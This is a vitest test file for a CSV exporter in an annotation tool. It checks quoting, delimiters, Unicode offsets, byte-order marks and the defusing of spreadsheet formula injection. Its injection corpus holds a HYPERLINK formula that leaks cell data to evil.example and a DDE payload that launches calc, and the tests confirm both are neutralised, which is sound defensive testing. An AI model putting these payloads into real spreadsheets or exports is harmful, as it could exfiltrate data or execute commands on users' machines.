import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  CSV_DEFUSE_MARK,
  CSV_DELIMITERS,
  CSV_TAG_SEPARATOR,
  neutraliseCell,
  toCsv,
  type ExportInput,
} from '../../../../core/exporters';
import { positionSelector, quoteSelector } from '../../../../core/model';
import { toCodePointOffset } from '../../../../core/text/code-points';
import { dataset, live } from './fixture';

/** Reads a CSV back with papaparse's parser, every cell as the text in the file. */
function read(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true, dynamicTyping: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** The text of a defused cell: the zero-width mark in front is invisible. */
const shown = (cell: string): string => (/^\u200b[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);

const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

describe('toCsv', () => {
  const input = dataset();
  const csv = toCsv(input);
  const [header, ...rows] = read(csv);

  it('writes the documented columns in their stable order', () => {
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(CSV_COLUMNS.join(',')).toBe(
      'annotation_id,article_id,article_title,source,byline,published_at,url,kind,stance,quote,prefix,suffix,start,end,note,tags,attribution,credibility,source_reliability,figure_value,figure_unit,author,created_at,updated_at,updated_by',
    );
  });

  it('writes one row per live annotation and leaves tombstones out', () => {
    expect(rows).toHaveLength(live(input).length);
    const deleted = input.annotations.find((a) => a.deletedAt !== null)!;
    expect(csv).not.toContain(deleted.id);
  });

  it('uses CRLF between records, keeps newlines inside quoted cells and ends with a line break', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.startsWith('annotation_id,')).toBe(true);
    expect(csv).toContain('"Quote has ""embedded quotes"", commas,\nand a second line\r\nwith CRLF."');
  });

  it('reads back, cell by cell, as the data it was made from', () => {
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const articles = new Map(input.articles.map((a) => [a.id, a]));
    const grades = new Map(input.sourceGrades.map((g) => [g.source, g.reliability]));
    const byId = new Map(input.annotations.map((a) => [a.id, a]));
    for (const row of rows) {
      const a = byId.get(row[col('annotation_id')]!)!;
      const article = articles.get(a.articleId)!;
      const q = quoteSelector(a);
      const p = positionSelector(a)!;
      const expected: Record<string, string> = {
        article_id: a.articleId,
        article_title: article.title,
        source: article.source,
        byline: article.byline,
        published_at: article.publishedAt ?? '',
        url: article.url,
        kind: a.kind,
        stance: a.stance ?? '',
        quote: q.exact,
        prefix: q.prefix,
        suffix: q.suffix,
        start: String(toCodePointOffset(article.text, p.start)),
        end: String(toCodePointOffset(article.text, p.end)),
        note: a.note,
        tags: a.tags.join(CSV_TAG_SEPARATOR),
        attribution: a.attribution,
        credibility: a.credibility === null ? '' : String(a.credibility),
        source_reliability: grades.get(article.source) ?? '',
        figure_value: a.figure ? String(a.figure.value) : '',
        figure_unit: a.figure?.unit ?? '',
        author: a.author.name,
        created_at: a.createdAt,
        updated_at: a.updatedAt,
      };
      for (const [name, value] of Object.entries(expected)) {
        expect(shown(row[col(name as (typeof CSV_COLUMNS)[number])]!), `${a.id} ${name}`).toBe(value);
      }
    }
  });

  it('counts start and end in code points, so they slice the quote out of the text', () => {
    const texts = new Map(input.articles.map((a) => [a.id, a.text]));
    const emoji = rows.find((r) => r[CSV_COLUMNS.indexOf('quote')]!.includes('🚩'))!;
    for (const row of rows) {
      const points = [...texts.get(row[1]!)!];
      const start = Number(row[CSV_COLUMNS.indexOf('start')]);
      const end = Number(row[CSV_COLUMNS.indexOf('end')]);
      expect(shown(row[CSV_COLUMNS.indexOf('quote')]!)).toBe(points.slice(start, end).join(''));
    }
    // The digest's title line holds 🌍, one code point but two UTF-16 units.
    const a = input.annotations.find((x) => quoteSelector(x).exact.includes('🚩'))!;
    expect(Number(emoji[CSV_COLUMNS.indexOf('start')])).toBe(positionSelector(a)!.start - 1);
  });

  it('orders rows by article (date, then title), then by start offset', () => {
    const articleOrder = rows.map((r) => r[1]);
    expect([...new Set(articleOrder)]).toEqual(['isw-2025-06-25', 'digest-multilingual', 'telegram-posts']);
    for (let i = 1; i < rows.length; i++) {
      if (rows[i]![1] !== rows[i - 1]![1]) continue;
      expect(Number(rows[i]![12])).toBeGreaterThan(Number(rows[i - 1]![12]));
    }
  });

  it('defuses every formula cell of the injection corpus', () => {
    const corpus = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      '+1 for the ceasefire',
      '-2+3',
      '@SUM(A1:A10)',
      '\tTab-led note',
      '\rCR-led note',
      "=cmd|' /C calc'!A0",
      '+SUM(1,2)',
      '@attacker',
      '=1+1',
      '=Telegram posts, 24 June',
    ];
    const cells = rows.flat();
    for (const bad of corpus) {
      expect(cells, bad).toContain(`${CSV_DEFUSE_MARK}${bad}`);
      expect(cells, bad).not.toContain(bad);
    }
    for (const cell of cells) {
      if (FORMULA.test(cell)) expect(cell, JSON.stringify(cell)).toMatch(PLAIN_NUMBER);
    }
  });

  it('leaves numbers, negative ones too, as bare numbers a spreadsheet reads as numbers', () => {
    const lines = csv.split('\r\n');
    const negative = lines.find((l) => l.includes(',Ministry,'))!;
    expect(negative).toContain(',-12.5,%,');
    // The quote "-12.5" is text, but a plain number: it is not defused either.
    expect(negative).toContain(',figure,reporting,-12.5,');
    expect(lines.find((l) => l.includes('Marco Rubio'))).toContain(',80000,killed-in-action,');
    const typed = Papa.parse<Record<string, unknown>>(csv, {
      header: true,
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    const values = typed.data.map((r) => r['figure_value']).filter((v) => v !== null);
    expect(values).toEqual([80000, 2500, 6500000000, 12, -12.5, 1]);
  });

  it('keeps Arabic, Chinese and emoji text intact', () => {
    const cells = rows.flat();
    for (const text of [
      'قال المتحدث باسم وزارة الخارجية إن المفاوضات ستستأنف الأسبوع المقبل في الدوحة.',
      'تصريح رسمي، لم يُؤكَّد بعد.',
      '外交部发言人表示，谈判将于下周在日内瓦恢复。',
      '谈判; 外交',
      'Emoji survive: 🚩🚀👍🏽 and 👨‍👩‍👧.',
      'Regional press digest 🌍 — الملخص 摘要',
      'عمر الفاروق',
    ]) {
      expect(cells).toContain(text);
    }
  });

  it('starts with a byte-order mark only when asked', () => {
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    const withBom = toCsv(input, { bom: true });
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    expect(withBom.slice(1)).toBe(csv);
    expect(new TextEncoder().encode(withBom).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('writes a chosen subset of columns in the chosen order', () => {
    const [h, first] = read(toCsv(input, { columns: ['quote', 'annotation_id'] }));
    expect(h).toEqual(['quote', 'annotation_id']);
    expect(first).toEqual([
      'US President Donald Trump stated that Russia may have territorial ambitions beyond Ukraine',
      '6f1c2a3b-0000-4d5e-8f90-000000000001',
    ]);
    expect(() => toCsv(input, { columns: ['nope' as never] })).toThrow(/unknown CSV column/);
  });

  it('quotes every text field holding a comma, semicolon, tab, quote or line break', () => {
    const lines = csv.split('\r\n');
    // Two tags joined inside one quoted field: a semicolon-splitting reader keeps them together.
    const tagged = input.annotations.find((a) => a.deletedAt === null && a.tags.length > 1)!;
    expect(csv).toContain(`"${tagged.tags.join(CSV_TAG_SEPARATOR)}"`);
    // The tab-led note is quoted with its invisible mark inside the quotes, never split from it.
    expect(csv).toContain(`"${CSV_DEFUSE_MARK}\tTab-led note"`);
    for (const cell of rows.flat()) {
      if (/[,;\t"\r\n]/.test(cell)) {
        const written = `"${cell.replaceAll('"', '""')}"`;
        expect(csv, JSON.stringify(cell)).toContain(written);
      }
    }
    expect(lines.length).toBeGreaterThan(2);
  });

  it.each(CSV_DELIMITERS.map((d) => [JSON.stringify(d), d] as const))(
    'reads back the same cells with %s as the delimiter, whichever separators a reader splits on',
    (_, delimiter) => {
      const text = toCsv(input, { delimiter });
      expect(text.startsWith(CSV_COLUMNS.join(delimiter))).toBe(true);
      const parsed = Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      expect(parsed.data).toEqual([header, ...rows]);
      // Unquoted, no separator of the three is left anywhere: splitting on all of them at once,
      // outside quotes, gives the documented number of columns on every row.
      const outside = text.replace(/"(?:[^"]|"")*"/g, 'Q');
      for (const line of outside.split('\r\n').filter(Boolean)) {
        expect(line.split(/[,;\t]/)).toHaveLength(CSV_COLUMNS.length);
      }
    },
  );

  it('refuses an unknown delimiter', () => {
    expect(() => toCsv(input, { delimiter: '|' as never })).toThrow(/unknown CSV delimiter/);
  });

  it('writes only the header for an empty export', () => {
    const empty: ExportInput = { ...input, annotations: [] };
    expect(toCsv(empty)).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});

describe('neutraliseCell', () => {
  it.each([
    ['=1+1', '\u200b=1+1'],
    ['+1', '\u200b+1'],
    ['-2+3', '\u200b-2+3'],
    ['@SUM(A1)', '\u200b@SUM(A1)'],
    ['\tx', '\u200b\tx'],
    ['\rx', '\u200b\rx'],
    ['-', '\u200b-'],
    ['-1e5', '\u200b-1e5'],
    ["'=1+1", "'=1+1"],
    ['-12.5', '-12.5'],
    ['-80000', '-80000'],
    ['80000', '80000'],
    ['plain text', 'plain text'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });
});
